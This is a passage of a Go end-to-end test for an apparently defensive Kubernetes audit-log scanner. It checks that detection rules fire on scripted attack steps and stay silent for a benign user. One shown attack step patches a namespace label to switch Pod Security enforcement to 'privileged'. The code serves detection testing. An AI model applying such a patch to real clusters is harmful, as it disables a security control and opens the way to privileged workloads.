		{name: "attack: Pod Security switched off", attack: []string{"AG-DET-503"}, run: func() {
			_, err := mallory.CoreV1().Namespaces().Patch(ctx, "shop", types.StrategicMergePatchType,
				[]byte(`{"metadata":{"labels":{"pod-security.kubernetes.io/enforce":"privileged"}}}`), metav1.PatchOptions{})
			must("label", err)
		}},
	}
	for _, s := range steps {
		rec.set(s.name)
		s.run()
	}
	rec.set("after")
	scriptDone := time.Since(start)

	// ---- Scan the server's log.
	scanStart := time.Now()
	stdout, stderr, code := runAPIGuard(t, append([]string{"audit", "scan", c.AuditLogPath, "--fail-on", "critical"}, scanArgs...)...)
	scanTime := time.Since(scanStart)
	if code != 1 {
		t.Errorf("exit %d, want 1 (critical alerts); stderr:\n%s", code, stderr)
	}
	if strings.Contains(string(stderr), "undecodable") || strings.Contains(string(stderr), "failed to evaluate") {
		t.Errorf("the scan reported problems:\n%s", stderr)
	}
	for _, blind := range []string{"AG-DET-303", "AG-DET-305"} { // Secrets and TokenRequests at Metadata
		if !strings.Contains(string(stderr), "rule "+blind+" is blind") {
			t.Errorf("%s not reported blind under the lab's policy:\n%s", blind, stderr)
		}
	}
	var alerts []alertLine
	sc := bufio.NewScanner(bytes.NewReader(stdout))
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	for sc.Scan() {
		var a alertLine
		if err := json.Unmarshal(sc.Bytes(), &a); err != nil {
			t.Fatalf("alert line %q: %v", sc.Text(), err)
		}
		if a.Rule == "" || a.AuditID == "" || a.Timestamp.IsZero() || a.SourceIPs == nil {
			t.Errorf("alert lacks a field: %s", sc.Text())
		}
		alerts = append(alerts, a)
	}
	byStep := map[string]map[string][]alertLine{}
	for _, a := range alerts {
		st, ok := rec.steps[a.AuditID]
		if !ok {
			st = "outside the script (lab bootstrap, controllers)"
		}
		if byStep[st] == nil {
			byStep[st] = map[string][]alertLine{}
		}
		byStep[st][a.Rule] = append(byStep[st][a.Rule], a)
	}
	for _, s := range steps {
		got := byStep[s.name]
		if len(s.attack) == 0 {
			for rule, as := range got {
				t.Errorf("benign step %q raised %s: %s", s.name, rule, as[0].Message)
			}
			continue
		}
		for _, rule := range s.attack {
			if len(got[rule]) == 0 {
				t.Errorf("attack %q did not raise %s (raised: %v)", s.name, rule, keys(got))
			}
		}
		for rule, as := range got {
			if !contains(s.attack, rule) {
				t.Logf("attack %q also raised %s: %s", s.name, rule, as[0].Message)
			}
		}
	}
	for _, st := range []string{"setup", "after", "outside the script (lab bootstrap, controllers)"} {
		for rule, as := range byStep[st] {
			for _, a := range as {
				if a.User == "dev-alice" {
					t.Errorf("%s raised %s on the benign user: %s", st, rule, a.Message)
				}
			}
			t.Logf("%s: %s x%d (%s)", st, rule, len(as), as[0].Message)
		}
	}
	// --follow saw the same alerts while the server wrote them (the log may
	// have grown since the scan: every scanned alert must be among them).
	want := map[string]bool{}
	for _, a := range alerts {
		want[a.Rule+" "+a.AuditID] = true
	}
	deadline := time.Now().Add(30 * time.Second)
	var missing []string
	for {
		seen := map[string]bool{}
		for _, line := range strings.Split(followOut.String(), "\n") {
			var a alertLine
			if json.Unmarshal([]byte(line), &a) == nil && a.Rule != "" {
				seen[a.Rule+" "+a.AuditID] = true
			}
		}
		missing = missing[:0]
		for k := range want {
			if !seen[k] {
				missing = append(missing, k)
			}
		}
		if len(missing) == 0 || time.Now().After(deadline) {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	if len(missing) > 0 {
		sort.Strings(missing)
		t.Errorf("--follow missed %d of %d alerts the file scan raised, e.g. %v\nstderr:\n%s", len(missing), len(want), missing[:min(5, len(missing))], followErr.String())
	}
	_ = follow.Process.Signal(os.Interrupt)
	if err := follow.Wait(); err != nil {
		t.Errorf("--follow after an interrupt: %v\nstderr:\n%s", err, followErr.String())
	}

	covered := map[string]bool{}
	for _, s := range steps {
		for _, r := range s.attack {
			covered[r] = true
		}
	}
	t.Logf("%d alerts; %d rules proven on the real server; script %s, scan %s, total %s",
		len(alerts), len(covered), scriptDone.Round(time.Millisecond), scanTime.Round(time.Millisecond), time.Since(start).Round(time.Millisecond))
	if dump := os.Getenv("APIGUARD_E2E_DUMP"); dump != "" {
		os.MkdirAll(dump, 0o755)
		data, _ := os.ReadFile(c.AuditLogPath)
		os.WriteFile(filepath.Join(dump, "auditscan-audit.log"), data, 0o644)
		os.WriteFile(filepath.Join(dump, "auditscan-alerts.jsonl"), stdout, 0o644)
	}
}

func keys[V any](m map[string]V) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

func contains(l []string, s string) bool {
	for _, x := range l {
		if x == s {
			return true
		}
	}
	return false
}

// anonymousGet requests path without credentials and records its audit ID.
func anonymousGet(t *testing.T, c *lab.Cluster, rec *auditRecorder, path string) int {
	t.Helper()
	pool := caPool(t, c.CACertPath)
	hc := &http.Client{Timeout: 10 * time.Second, Transport: rtFunc(func(req *http.Request) (*http.Response, error) {
		return rec.RoundTrip(&http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool, MinVersion: tls.VersionTLS12}}, req)
	})}
	resp, err := hc.Get(c.URL + path)
	if err != nil {
		t.Fatalf("anonymous GET %s: %v", path, err)
	}
	resp.Body.Close()
	return resp.StatusCode
}

// csrPEM makes a PEM certificate request for CN/O.
func csrPEM(t *testing.T, cn string, org ...string) []byte {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: pkix.Name{CommonName: cn, Organization: org}}, key)
	if err != nil {
		t.Fatal(err)
	}
	return pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
}
